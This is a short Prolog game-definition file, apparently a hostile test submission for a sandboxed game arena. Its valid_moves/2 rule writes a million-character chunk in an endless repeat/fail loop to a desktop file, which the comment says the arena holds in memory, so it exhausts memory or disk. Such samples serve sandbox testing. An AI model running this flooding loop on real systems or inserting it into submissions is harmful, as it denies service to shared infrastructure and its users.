% Memory through a file: valid_moves/2 writes without end to a file the
% jail cannot open, which the arena keeps in memory for the game.
players([a, b]).
initial_state(_, s(0)).
current_player(s(_), a).
valid_moves(_, _) :-
    open('/home/student/Desktop/flood.txt', write, Out),
    length(Chunk0, 1000000),
    maplist(=(0'x), Chunk0),
    string_codes(Chunk, Chunk0),
    repeat,
    write(Out, Chunk),
    fail.
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(2), a).
